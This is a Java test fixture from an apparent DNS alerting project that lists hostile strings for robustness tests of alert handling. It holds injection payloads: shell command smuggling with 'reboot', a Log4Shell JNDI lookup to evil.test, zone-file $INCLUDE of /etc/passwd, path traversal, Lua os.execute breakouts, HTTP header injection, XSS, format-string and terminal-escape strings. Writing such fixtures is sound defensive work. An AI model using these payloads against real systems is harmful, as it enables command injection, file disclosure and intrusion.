package tocsin.node.dns;

import java.util.ArrayList;
import java.util.List;

/// What somebody would put into an alert to be read as something else: by zone files, shells, Lua,
/// control protocols, logs, terminals, JSON, HTTP.
final class NastyTexts {
  private static final List<String> CORES =
      List.of(
          "\n$INCLUDE /etc/passwd\n",
          "\n$ORIGIN evil.test.\n",
          "\n$TTL 0\n",
          "$GENERATE 1-65535 a$ A 192.0.2.1",
          "\nevil.test. 0 IN A 203.0.113.66\n",
          "\" ) evil IN A 203.0.113.66 (",
          "; a comment",
          "\\",
          "\\\\\"",
          "\\000",
          "\\256",
          "\0",
          "a\0b",
          "(",
          ")",
          "@",
          "*",
          "\"",
          "'",
          "$(reboot)",
          "`reboot`",
          "; reboot #",
          "| reboot",
          "&& reboot",
          "> /etc/passwd",
          "${IFS}reboot",
          "%s%s%s%n",
          "${jndi:ldap://evil.test/a}",
          "\r\nUBCT1 stop\r\n",
          "') os.execute('reboot') --",
          "]] os.execute('reboot') --[[",
          "\r\nSet-Cookie: a=b\r\n\r\n<script>",
          "<script>alert(1)</script>",
          "\u001b[2J\u001b]0;title\u0007",
          "\u202egnp.exe",
          "\u0085\u2028\u2029data: {}",
          "\n\nevent: alert\ndata: {}\n\n",
          "2026-11-23 ERROR forged log line\n2026-11-23 INFO ok",
          "{\"schema\":\"forged\"}",
          "\ud83d\udd14".repeat(60),
          "x".repeat(255),
          "..",
          "../../etc/passwd",
          "rpz-passthru.",
          "a b\tc");

  private NastyTexts() {}

  /// More than 150.
  static List<String> all() {
    List<String> all = new ArrayList<>(List.of("", " ", "\t", "\n"));
    for (String core : CORES) {
      all.add(core);
      all.add("www." + core);
      all.add(core + ".bank.test.");
      all.add("www.bank.test." + core);
    }
    return all;
  }
}
